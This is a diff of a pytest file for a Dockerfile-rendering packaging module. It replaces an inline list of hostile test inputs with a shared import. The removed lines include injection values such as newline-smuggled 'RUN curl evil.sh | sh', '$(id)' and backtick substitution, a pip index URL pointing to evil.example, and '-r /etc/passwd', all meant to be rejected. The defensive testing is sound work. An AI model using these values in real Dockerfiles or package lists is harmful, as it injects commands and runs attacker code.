@@ -7,6 +7,7 @@ import subprocess
 
 import pytest
 
+from tests.package.conftest import HOSTILE_VALUES
 from vertex_trainer import packaging as p
 from vertex_trainer.errors import UserError
 from vertex_trainer.packaging.templates import _finalize
@@ -120,20 +121,7 @@ def test_requirements_layer_leaves_the_framework_pins_to_the_framework_layer(tmp
 
 
 @pytest.mark.parametrize("field,value", [
-    ("base_image", "python:3.11\nRUN curl evil.sh | sh"),
-    ("base_image", "python:3.11 AS x\nRUN id"),
-    ("base_image", "python:`id`"),
-    ("base_image", "python:$(id)"),
-    ("base_image", 'python:3.11"'),
-    ("pip_packages", ["pandas==2.2.3\nRUN curl evil.sh | sh"]),
-    ("pip_packages", ["pandas; `id`"]),
-    ("pip_packages", ["$(curl evil.sh)"]),
-    ("pip_packages", ["--index-url=https://evil.example/simple"]),
-    ("pip_packages", ["-r /etc/passwd"]),
-    ("pip_packages", ["pandas @ https://evil.example/p.whl"]),
-    ("pip_packages", ["pandas'"]),
-    ("base_image_digest", "sha256:" + "ab" * 32 + "\nRUN id"),
-])
+    *HOSTILE_VALUES, ("base_image_digest", "sha256:" + "ab" * 32 + "\nRUN id")])
 def test_hostile_values_never_reach_a_rendered_dockerfile(field, value):
     with pytest.raises(UserError) as e:
         p.render_dockerfile("gpu", **{field: value})
